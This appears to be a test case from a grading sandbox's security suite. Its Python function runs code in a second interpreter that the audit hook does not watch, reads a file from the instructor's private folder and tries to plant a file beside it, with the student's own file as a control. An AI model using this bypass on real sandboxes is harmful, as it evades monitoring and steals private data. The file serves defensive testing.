# Read (and write into) a private folder of the instructor's that is not on the sandbox's hidden
# list (under /opt), through a second interpreter the audit hook does not watch.
def _steal():
    target = ATTACK["target"]
    if target == "own":  # the control: a file of the student's own copy
        target = _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "own-secret.txt")
        with open(target, "w") as own:
            own.write("own-" + ATTACK["marker"])
    planted = _os.path.join(_os.path.dirname(target), "planted-" + ATTACK["marker"])
    code = f"print(open({target!r}).read().strip())\ntry:\n    open({planted!r}, 'w').write('x')\nexcept OSError:\n    pass"
    out = (unhooked(code) or "").strip()
    if out:
        answer("read " + out)


attack_once("instructor_private", _steal)
